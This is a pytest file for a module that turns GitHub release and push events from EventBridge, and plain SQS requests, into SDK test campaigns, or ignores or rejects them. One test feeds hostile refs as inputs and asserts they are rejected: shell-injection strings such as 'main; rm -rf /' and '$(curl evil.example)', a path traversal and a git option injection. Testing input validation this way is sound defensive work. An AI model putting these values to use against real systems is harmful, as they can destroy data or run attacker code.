"""Reading the events queue's messages: GitHub releases and pushes as EventBridge's GitHub inbound webhook
delivers them, plain requests, and what is ignored or rejected (with the reason)."""

from __future__ import annotations

import copy
import json
import re

import pytest

from sdk_campaigns.events.messages import (
    CampaignRequest,
    Ignored,
    Rejected,
    normalized_repo_url,
    read_message,
)

REPOSITORY = {
    "id": 501234567,
    "name": "sdk-python",
    "full_name": "example-org/sdk-python",
    "private": False,
    "html_url": "https://github.com/example-org/sdk-python",
    "clone_url": "https://github.com/example-org/sdk-python.git",
    "default_branch": "main",
}
RELEASE_PUBLISHED = {
    "action": "published",
    "release": {
        "id": 180000001,
        "tag_name": "v1.4.0",
        "target_commitish": "main",
        "name": "1.4.0",
        "draft": False,
        "prerelease": False,
        "html_url": "https://github.com/example-org/sdk-python/releases/tag/v1.4.0",
    },
    "repository": REPOSITORY,
    "sender": {"login": "release-bot", "type": "Bot"},
}
PUSH_TO_MAIN = {
    "ref": "refs/heads/main",
    "before": "1f0e5a3c9b7d2e4f6a8c0b1d3e5f7a9c2b4d6e8f",
    "after": "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b",
    "created": False,
    "deleted": False,
    "forced": False,
    "commits": [{"id": "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b", "message": "Fix retries"}],
    "repository": REPOSITORY,
    "pusher": {"name": "dev"},
}


def eventbridge(detail_type: str, detail: dict, source: str = "github.com", event_id: str = "e-1") -> dict:
    """An SQS message as an EventBridge rule delivers it: the whole event is the body."""
    event = {
        "version": "0",
        "id": event_id,
        "detail-type": detail_type,
        "source": source,
        "account": "123456789012",
        "time": "2026-11-21T10:00:00Z",
        "region": "us-east-1",
        "resources": [],
        "detail": detail,
    }
    return {"MessageId": f"m-{event_id}", "ReceiptHandle": f"r-{event_id}", "Body": json.dumps(event)}


def test_a_published_release_starts_a_campaign_at_its_tag(sample_config):
    request = read_message(sample_config, eventbridge("release", RELEASE_PUBLISHED))
    assert isinstance(request, CampaignRequest)
    assert request.conf == {"sdks": ["python"], "ref": "v1.4.0"}
    assert request.origin == "GitHub release v1.4.0 of example-org/sdk-python"
    assert request.message_id == "m-e-1"


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"action": "created", "release": {**RELEASE_PUBLISHED["release"], "draft": True}}, "'created'"),
        ({"action": "edited"}, "'edited'"),
        ({"release": {**RELEASE_PUBLISHED["release"], "draft": True}}, "draft"),
    ],
    ids=["drafted", "edited", "draft-flag"],
)
def test_a_drafted_or_edited_release_is_ignored(sample_config, change, why):
    outcome = read_message(sample_config, eventbridge("release", {**RELEASE_PUBLISHED, **change}))
    assert isinstance(outcome, Ignored)
    assert why in outcome.why


def test_a_push_to_the_default_branch_starts_a_campaign_at_the_pushed_commit(sample_config):
    request = read_message(sample_config, eventbridge("push", PUSH_TO_MAIN))
    assert isinstance(request, CampaignRequest)
    assert request.conf == {"sdks": ["python"], "ref": PUSH_TO_MAIN["after"]}
    assert request.origin == "GitHub push of 9a8b7c6d5e4f to main of example-org/sdk-python"


@pytest.mark.parametrize(
    "change",
    [
        {"ref": "refs/heads/feature/retries"},
        {"ref": "refs/tags/v1.4.0"},
        {"deleted": True, "after": "0" * 40},
        {"repository": {**REPOSITORY, "default_branch": "trunk"}},
    ],
    ids=["other-branch", "tag-push", "branch-deleted", "default-is-trunk"],
)
def test_a_push_elsewhere_is_ignored(sample_config, change):
    outcome = read_message(sample_config, eventbridge("push", {**PUSH_TO_MAIN, **change}))
    assert isinstance(outcome, Ignored), outcome


def test_other_github_events_are_ignored(sample_config):
    ping = {"zen": "Keep it logically awesome.", "hook_id": 1, "repository": REPOSITORY}
    outcome = read_message(sample_config, eventbridge("ping", ping))
    assert isinstance(outcome, Ignored)
    assert "'ping'" in outcome.why


def test_a_plain_event_starts_a_campaign(sample_config):
    message = eventbridge("campaign requested", {"sdk": "go", "ref": "release/2.0"}, source="sdk-campaigns")
    request = read_message(sample_config, message)
    assert isinstance(request, CampaignRequest)
    assert request.conf == {"sdks": ["go"], "ref": "release/2.0"}
    assert request.event_key == "eventbridge:e-1"


def test_a_plain_request_sent_straight_to_the_queue_starts_a_campaign(sample_config):
    message = {"MessageId": "m-9", "ReceiptHandle": "r", "Body": json.dumps({"sdk": "rust", "ref": "main"})}
    request = read_message(sample_config, message)
    assert isinstance(request, CampaignRequest)
    assert request.conf == {"sdks": ["rust"], "ref": "main"}
    assert request.event_key == "sqs:m-9"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("{not json", r"^malformed: the body is not JSON"),
        ("   ", r"^malformed: the message has no body"),
        ('["python", "v1"]', r"^malformed: the body is not a JSON object"),
        ('"python"', r"^malformed: the body is not a JSON object"),
        (json.dumps({"sdk": "python"}), r"^malformed: a plain request is .*'sdk'"),
        (json.dumps({"sdk": "python", "ref": "v1", "test_command": ["sh"]}), r"'test_command'"),
        (json.dumps({"sdks": ["python"], "ref": "v1"}), r"^malformed: a plain request"),
        (json.dumps({"source": "sdk-campaigns", "detail-type": "x", "detail": "python"}), r"detail is not"),
        (
            json.dumps({"source": "aws.s3", "detail-type": "x", "detail": {}}),
            r"^unknown event source 'aws.s3'",
        ),
    ],
    ids=[
        "not-json",
        "blank",
        "array",
        "string",
        "no-ref",
        "extra-key",
        "sdks-list",
        "detail-string",
        "source",
    ],
)
def test_a_malformed_body_is_rejected_with_the_reason(sample_config, body, reason):
    outcome = read_message(sample_config, {"MessageId": "m-1", "ReceiptHandle": "r", "Body": body})
    assert isinstance(outcome, Rejected)
    assert re.search(reason, outcome.reason), outcome.reason
    assert outcome.body == body  # the dead-letter queue gets the message as it came


def test_an_unknown_sdk_is_rejected_naming_the_known_ones(sample_config):
    message = eventbridge("campaign requested", {"sdk": "cobol", "ref": "v1"}, source="sdk-campaigns")
    outcome = read_message(sample_config, message)
    assert isinstance(outcome, Rejected)
    assert outcome.reason.startswith("unknown SDK 'cobol' (sdk); known SDKs: python, javascript")


@pytest.mark.parametrize(
    "ref",
    [
        "main; rm -rf /",
        "$(curl evil.example)",
        "../../etc/passwd",
        "-c core.sshCommand=evil",
        "v1\nv2",
        "refs/heads/x.lock",
        "",
        "a" * 300,
        7,
        None,
    ],
    ids=["semicolon", "subshell", "dotdot", "option", "newline", "lock", "empty", "long", "number", "null"],
)
def test_hostile_refs_are_rejected(sample_config, ref):
    plain = read_message(
        sample_config,
        eventbridge("campaign requested", {"sdk": "python", "ref": ref}, source="sdk-campaigns"),
    )
    release = copy.deepcopy(RELEASE_PUBLISHED)
    release["release"]["tag_name"] = ref
    tagged = read_message(sample_config, eventbridge("release", release))
    for outcome in (plain, tagged):
        assert isinstance(outcome, Rejected), outcome
        assert outcome.reason.startswith("invalid ref "), outcome.reason
        assert len(outcome.reason) < 200  # a hostile value is quoted, cut short
        assert "\n" not in outcome.reason


def test_a_push_whose_after_is_not_a_commit_is_rejected(sample_config):
    outcome = read_message(sample_config, eventbridge("push", {**PUSH_TO_MAIN, "after": "main; rm -rf /"}))
    assert isinstance(outcome, Rejected)
    assert "'after' is not a commit id" in outcome.reason


def test_a_repository_mapped_to_no_sdk_is_rejected(sample_config):
    other = {**REPOSITORY, "full_name": "someone/else", "html_url": "https://github.com/someone/else"}
    outcome = read_message(sample_config, eventbridge("release", {**RELEASE_PUBLISHED, "repository": other}))
    assert isinstance(outcome, Rejected)
    assert outcome.reason.startswith(
        "repository 'someone/else' is mapped to no SDK: add it to events.reposit"
    )


def test_a_github_event_without_its_repository_is_rejected(sample_config):
    outcome = read_message(sample_config, eventbridge("release", {**RELEASE_PUBLISHED, "repository": None}))
    assert isinstance(outcome, Rejected)
    assert "repository.full_name" in outcome.reason


def test_repositories_map_by_name_any_case_or_by_an_sdks_repo_url(sample_config):
    sdks = dict(sample_config.sdks)
    sdks["go"] = sdks["go"].model_copy(update={"repo_url": "https://github.com/Example-Org/sdk-go.git"})
    events = sample_config.events.model_copy(update={"repositories": {"example-org/sdks": ("python", "go")}})
    config = sample_config.model_copy(update={"sdks": sdks, "events": events})
    by_url = {
        **REPOSITORY,
        "full_name": "example-org/sdk-go",
        "html_url": "https://github.com/example-org/sdk-go",
    }
    request = read_message(config, eventbridge("release", {**RELEASE_PUBLISHED, "repository": by_url}))
    assert isinstance(request, CampaignRequest) and request.sdks == ("go",)

    # A monorepo mapped to two SDKs: one release, one campaign of both.
    monorepo = {
        **REPOSITORY,
        "full_name": "Example-Org/SDKs",
        "html_url": "https://github.com/Example-Org/SDKs",
    }
    request = read_message(config, eventbridge("release", {**RELEASE_PUBLISHED, "repository": monorepo}))
    assert isinstance(request, CampaignRequest) and request.sdks == ("python", "go")


def test_a_mapping_to_an_sdk_the_config_lacks_is_rejected(sample_config):
    events = sample_config.events.model_copy(update={"repositories": {"example-org/sdk-python": ("pyhton",)}})
    config = sample_config.model_copy(update={"events": events})
    outcome = read_message(config, eventbridge("release", RELEASE_PUBLISHED))
    assert isinstance(outcome, Rejected)
    assert outcome.reason.startswith("unknown SDK 'pyhton' (events.repositories['example-org/sdk-python'])")


def test_every_delivery_of_one_event_gets_one_run_id_and_other_events_others(sample_config):
    first = read_message(sample_config, eventbridge("release", RELEASE_PUBLISHED, event_id="e-1"))
    # GitHub's redelivery goes through EventBridge again: another event id, the same release.
    redelivered = read_message(sample_config, eventbridge("release", RELEASE_PUBLISHED, event_id="e-2"))
    assert first.run_id == redelivered.run_id
    next_release = copy.deepcopy(RELEASE_PUBLISHED)
    next_release["release"].update(id=180000002, tag_name="v1.4.1")
    assert read_message(sample_config, eventbridge("release", next_release)).run_id != first.run_id

    plain = {"sdk": "python", "ref": "v1.4.0"}
    sent = read_message(sample_config, eventbridge("campaign requested", plain, "sdk-campaigns", "e-7"))
    again = read_message(sample_config, eventbridge("campaign requested", plain, "sdk-campaigns", "e-7"))
    other = read_message(sample_config, eventbridge("campaign requested", plain, "sdk-campaigns", "e-8"))
    assert sent.run_id == again.run_id != other.run_id  # asked twice on purpose: two campaigns


def test_run_ids_are_readable_and_allowed_by_airflow(sample_config):
    from airflow.configuration import conf

    allowed = re.compile(conf.get("scheduler", "allowed_run_id_pattern"))
    release = read_message(sample_config, eventbridge("release", RELEASE_PUBLISHED))
    assert re.fullmatch(r"event__python__v1\.4\.0__[0-9a-f]{12}", release.run_id)
    branch = read_message(
        sample_config, eventbridge("x", {"sdk": "go", "ref": "release/2.0"}, source="sdk-campaigns")
    )
    assert branch.run_id.startswith("event__go__release-2.0__")
    for request in (release, branch):
        assert allowed.fullmatch(request.run_id), request.run_id


def test_repository_urls_compare_without_case_suffix_or_slash():
    assert normalized_repo_url("https://github.com/Org/SDK.git/") == normalized_repo_url(
        "https://github.com/org/sdk"
    )
